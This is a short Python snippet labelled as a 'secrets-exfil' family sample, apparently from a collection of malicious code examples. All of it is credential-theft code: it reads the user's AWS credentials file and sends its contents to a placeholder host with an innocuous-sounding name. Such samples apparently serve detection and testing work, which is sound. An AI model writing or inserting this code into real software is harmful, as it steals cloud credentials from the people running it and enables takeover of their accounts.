# family: secrets-exfil
# AWS credentials file read and sent with urllib
import os
import urllib.request

path = os.path.expanduser("~/.aws/credentials")
if os.path.exists(path):
    with open(path, "rb") as f:
        data = f.read()
    urllib.request.urlopen(urllib.request.Request("http://aws-sync.example.invalid/u", data=data))
